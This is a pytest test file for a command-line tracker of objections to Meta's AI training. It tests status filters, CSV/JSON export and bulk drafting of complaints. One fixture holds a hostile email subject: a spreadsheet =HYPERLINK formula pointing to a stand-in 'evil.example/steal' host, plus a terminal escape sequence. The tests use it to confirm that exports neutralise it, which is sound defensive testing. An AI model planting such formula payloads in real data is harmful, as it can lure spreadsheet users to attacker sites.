"""Views for an organisation: `status` filtered by member, state, platform and country,
`export --format csv|json` of every request with its timeline, and `complaint draft --all-refused`."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from mails import REFUSAL, meta_mail

CODE = "482913"
OTP_BODY = f"Your objection to AI at Meta: enter this code: {CODE}. It expires in one hour."
# A refusal whose subject a spreadsheet would run as a formula, with an escape sequence in it.
HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/steal","Your objection")\x1b[31m'


def ingest(cli, folder: Path, name: str, raw: bytes) -> None:
    path = folder / name
    path.write_bytes(raw)
    cli("ingest", path)


def day(month: int, d: int) -> datetime:
    return datetime(2025, month, d, 9, 0, tzinfo=timezone.utc)


@pytest.fixture
def organisation(cli, tmp_path):
    """Anna (member, DE-BY): a code and a refusal on Facebook. Ben (member, AT): an Instagram request
    added by hand, nothing heard. Carl (no member, no country): a refusal. Dora (no member, FR): a refusal.
    Returns the request numbers by name."""
    cli("member", "add", "anna@example.org", "--name", "Anna Adler", "--country", "DE", "--region", "BY")
    cli("member", "add", "Ben@Example.net", "--name", "Ben Berger", "--country", "AT")
    ingest(cli, tmp_path, "anna-code.eml", meta_mail(OTP_BODY, to="anna@example.org", date=day(6, 2),
                                                    subject=f"Your code {CODE}", message_id="<a1@facebookmail.com>"))
    ingest(cli, tmp_path, "anna-no.eml", meta_mail(REFUSAL, to="anna@example.org", date=day(6, 20),
                                                  subject=HOSTILE_SUBJECT, message_id="<a2@facebookmail.com>"))
    cli("request", "add", "--address", "ben@example.net", "--platform", "instagram", "--date", "2025-06-01")
    ingest(cli, tmp_path, "carl-no.eml", meta_mail(REFUSAL, to="carl@example.com", date=day(6, 21),
                                                  message_id="<c1@facebookmail.com>"))
    cli("request", "add", "--address", "dora@example.fr", "--platform", "facebook", "--country", "FR",
        "--date", "2025-05-02")
    ingest(cli, tmp_path, "dora-no.eml", meta_mail(REFUSAL, to="dora@example.fr", date=day(6, 22),
                                                  message_id="<d1@facebookmail.com>"))
    ids = {r["address"].split("@")[0]: r["id"] for r in cli.json("status", "--json")["requests"]}
    assert set(ids) == {"anna", "ben", "carl", "dora"}
    return ids


def shown(cli, *options: str) -> list[str]:
    return sorted(r["address"].split("@")[0] for r in cli.json("status", "--json", *options)["requests"])


# ---- status filters -----------------------------------------------------------------------

def test_status_shows_a_members_requests_and_filters_by_state_platform_and_country(cli, organisation):
    assert shown(cli) == ["anna", "ben", "carl", "dora"]
    assert shown(cli, "--member", "ANNA@example.org") == ["anna"]
    assert shown(cli, "--state", "rejected") == ["anna", "carl", "dora"]
    assert shown(cli, "--state", "Refused") == ["anna", "carl", "dora"]
    assert shown(cli, "--state", "submitted") == ["ben"]
    assert shown(cli, "--platform", "instagram") == ["ben"]
    # A request's own country, else its member's: Anna's request has none, her membership says DE.
    assert shown(cli, "--country", "de") == ["anna"]
    assert shown(cli, "--country", "FR") == ["dora"]
    assert shown(cli, "--country", "AT", "--state", "submitted") == ["ben"]
    assert shown(cli, "--member", "ben@example.net", "--state", "rejected") == []
    data = cli.json("status", "--json", "--member", "anna@example.org", "--state", "rejected")
    assert data["filter"] == {"member": "anna@example.org", "state": "rejected", "platform": None, "country": None}


def test_the_filtered_report_says_it_is_filtered(cli, organisation):
    text = cli("status", "--state", "rejected", "--country", "DE").stdout
    assert "Requests (" in text and "state rejected, country DE)" in text
    assert "anna@example.org" in text and "carl@example.com" not in text and "ben@example.net" not in text
    none = cli("status", "--member", "ben@example.net", "--state", "approved").stdout
    assert "No requests match: member ben@example.net, state approved." in none
    assert "No requests yet" not in none


def test_a_members_view_shows_only_their_own_fresh_codes(cli, organisation, tmp_path):
    now = datetime.now(timezone.utc) - timedelta(minutes=5)
    ingest(cli, tmp_path, "ben-code.eml", meta_mail("Your objection to AI at Meta: enter this code: 771204. It "
                                                    "expires in one hour.", to="ben@example.net", date=now,
                                                    subject="Your confirmation code", sender="security@mail.instagram.com",
                                                    display="Instagram", message_id="<b1@mail.instagram.com>"))
    assert [c["code"] for c in cli.json("status", "--json", "--member", "ben@example.net")["codes"]] == ["771204"]
    assert cli.json("status", "--json", "--member", "anna@example.org")["codes"] == []
    assert [c["code"] for c in cli.json("status", "--json")["codes"]] == ["771204"]


@pytest.mark.parametrize("options, named", [
    (["--member", "nobody@example.org"], "--member: 'nobody@example.org' is not a member"),
    (["--state", "pending"], "--state: 'pending' is not a state; must be one of submitted, code_sent"),
    (["--platform", "tiktok"], "--platform: 'tiktok' is not a platform"),
    (["--country", "Germany"], "--country: 'Germany' is not a country code"),
])
def test_a_wrong_filter_is_one_line_naming_the_option_and_exit_status_2(cli, organisation, options, named):
    for command in (["status"], ["export", "--format", "json"]):
        result = cli(*command, *options, expect=2)
        [line] = [text for text in result.output.splitlines() if text.strip()]
        assert line.startswith("error: ") and named in line, line
        assert "Traceback" not in result.output


# ---- export ---------------------------------------------------------------------------------

def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_is_one_row_per_event_with_the_request_repeated(cli, organisation):
    result = cli("export", "--format", "csv")
    rows = csv_rows(result.stdout)
    assert list(rows[0]) == ["request", "address", "platform", "kind", "country", "region", "member", "state",
                             "received", "deadline", "decided", "event_date", "event_kind", "event_detail"]
    anna = [r for r in rows if r["address"] == "anna@example.org"]
    assert [r["event_kind"] for r in anna] == ["otp", "rejected"]
    assert {(r["request"], r["member"], r["country"], r["region"], r["state"], r["received"], r["decided"])
            for r in anna} == {(str(organisation["anna"]), "Anna Adler", "DE", "BY", "rejected", "2025-06-02",
                                "2025-06-20")}
    ben = [r for r in rows if r["address"] == "ben@example.net"]
    assert [(r["event_kind"], r["member"], r["country"], r["platform"]) for r in ben] == [
        ("submitted", "Ben Berger", "AT", "instagram")]
    dora = [r for r in rows if r["address"] == "dora@example.fr"]
    assert {(r["country"], r["member"]) for r in dora} == {("FR", "")}
    assert {r["address"] for r in rows} == {"anna@example.org", "ben@example.net", "carl@example.com",
                                            "dora@example.fr"}


def test_csv_export_neutralises_formulas_and_control_characters_and_never_holds_a_code(cli, organisation):
    text = cli("export", "--format", "csv").stdout
    rows = csv_rows(text)
    refusal = next(r for r in rows if r["address"] == "anna@example.org" and r["event_kind"] == "rejected")
    assert refusal["event_detail"].startswith("'=HYPERLINK(")
    assert "\x1b" not in text
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert CODE not in text
    code_event = next(r for r in rows if r["event_kind"] == "otp")
    assert code_event["event_detail"] == "Your code ******"
    # `request show` is for the person finishing the form: it still names the code.
    shown = cli.json("request", "show", organisation["anna"], "--json")
    assert any(CODE in event["detail"] for event in shown["events"])


def test_json_export_gives_each_request_as_request_show_does_with_its_events_and_no_code(cli, organisation):
    text = cli("export", "--format", "json", "--member", "anna@example.org").stdout
    assert CODE not in text
    [anna] = json.loads(text)
    show = cli.json("request", "show", organisation["anna"], "--json")
    assert set(show) <= set(anna)
    assert {key: anna[key] for key in show if key != "events"} == {k: v for k, v in show.items() if k != "events"}
    assert [(e["kind"], e["date"], e["message"]) for e in anna["events"]] == [
        (e["kind"], e["date"], e["message"]) for e in show["events"]]
    assert anna["member"] == {"address": "anna@example.org", "name": "Anna Adler", "country": "DE", "region": "BY"}
    # Data as the mail had it; the escape character is a JSON escape, never a raw byte a terminal would act on.
    assert anna["events"][1]["detail"] == HOSTILE_SUBJECT and "\x1b" not in text

    everyone = json.loads(cli("export", "--format", "json").stdout)
    assert [r["address"] for r in everyone] == ["anna@example.org", "ben@example.net", "carl@example.com",
                                                "dora@example.fr"]
    refused = json.loads(cli("export", "--format", "JSON", "--state", "refused", "--country", "FR").stdout)
    assert [r["address"] for r in refused] == ["dora@example.fr"]


@pytest.mark.parametrize("form", ["csv", "json"])
def test_export_out_writes_a_private_file_and_replaces_an_old_one(cli, organisation, tmp_path, form):
    target = tmp_path / f"requests.{form}"
    target.write_text("old export")
    target.chmod(0o644)
    result = cli("export", "--format", form, "--out", target)
    assert result.stdout.strip() == f"4 requests with 6 events written to {target} ({form.upper()})."
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    text = target.read_text(encoding="utf-8")
    assert "old export" not in text and CODE not in text
    parsed = csv_rows(text) if form == "csv" else json.loads(text)
    assert {r["address"] for r in parsed} == {"anna@example.org", "ben@example.net", "carl@example.com",
                                              "dora@example.fr"}
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".requests")] == []  # no temporary file left


def test_export_to_a_missing_folder_is_one_line(cli, organisation, tmp_path):
    result = cli("export", "--format", "csv", "--out", tmp_path / "nowhere" / "x.csv", expect=1)
    assert result.output.strip() == f"error: --out: the folder {tmp_path / 'nowhere'} does not exist"


def test_export_of_an_empty_database(cli):
    assert json.loads(cli("export", "--format", "json").stdout) == []
    assert cli("export", "--format", "csv").stdout.strip() == (
        "request,address,platform,kind,country,region,member,state,received,deadline,decided,event_date,"
        "event_kind,event_detail")


# ---- complaint draft --all-refused ----------------------------------------------------------

def test_all_refused_drafts_a_folder_per_refused_request_and_skips_one_without_a_country(cli, organisation,
                                                                                       tmp_path):
    out = tmp_path / "drafts"
    result = cli("complaint", "draft", "--all-refused", "--out", out, expect=1)
    anna, carl, dora = organisation["anna"], organisation["carl"], organisation["dora"]
    assert sorted(p.name for p in out.iterdir()) == sorted([f"complaint-{anna}-DE-BY", f"complaint-{dora}-FR"])
    letter = (out / f"complaint-{anna}-DE-BY" / "letter.txt").read_text()
    assert "Anna Adler" in letter  # a member's letter carries the member's name
    assert (out / f"complaint-{dora}-FR" / "complaint.eml").exists()
    assert stat.S_IMODE(os.stat(out / f"complaint-{dora}-FR" / "letter.txt").st_mode) == 0o600
    [skipped] = [line for line in result.stderr.splitlines() if line.strip()]
    assert skipped.startswith(f"skipped request #{carl} (carl@example.com): its country is unknown")
    assert f"privacy-tracker request edit {carl} --country CC" in skipped and "[person] country" in skipped
    assert "2 complaints drafted, 1 skipped." in result.stdout
    assert f"Request #{anna} (anna@example.org, Anna Adler): complaint to" in result.stdout
    assert "from its member" in result.stdout


def test_all_refused_for_one_country_or_member(cli, organisation, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # without --out: the current folder
    result = cli("complaint", "draft", "--all-refused", "--country", "DE")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("complaint-")] == [
        f"complaint-{organisation['anna']}-DE-BY"]
    assert "1 complaint drafted, 0 skipped (country DE)." in result.stdout

    nothing = cli("complaint", "draft", "--all-refused", "--member", "ben@example.net", "--out", tmp_path / "ben")
    assert "0 complaints drafted, 0 skipped (member ben@example.net)." in nothing.stdout
    assert not (tmp_path / "ben").exists()


def test_all_refused_with_a_country_set_later_goes_through(cli, organisation, tmp_path):
    out = tmp_path / "drafts"
    cli("complaint", "draft", "--all-refused", "--out", out, expect=1)
    cli("request", "edit", organisation["carl"], "--country", "IE")
    result = cli("complaint", "draft", "--all-refused", "--member", "anna@example.org", "--out", tmp_path / "again")
    assert "1 complaint drafted" in result.stdout
    # Folders drafted before are not overwritten: named, and the rest still drafted.
    again = cli("complaint", "draft", "--all-refused", "--out", out, expect=1)
    assert f"complaint-{organisation['carl']}-IE" in again.stdout
    assert again.stderr.count("exists and is not empty") == 2


@pytest.mark.parametrize("args, named", [
    ([], "give a request number, or --all-refused"),
    (["1", "--all-refused"], "give a request number or --all-refused, not both"),
    (["--all-refused", "--region", "BY"], "--region"),
    (["1", "--member", "anna@example.org"], "--member"),
])
def test_complaint_draft_takes_a_request_number_or_all_refused(cli, organisation, args, named):
    result = cli("complaint", "draft", *args, expect=2)
    assert named in " ".join(result.output.replace("│", " ").split())  # the message as the error box wraps it


def test_help_of_the_new_options(cli):
    assert "--format" in cli("export", "--help").stdout
    text = cli("complaint", "draft", "--help").stdout
    assert "--all-refused" in text and "--member" in text
    status = cli("status", "--help").stdout
    assert all(option in status for option in ("--member", "--state", "--platform", "--country"))
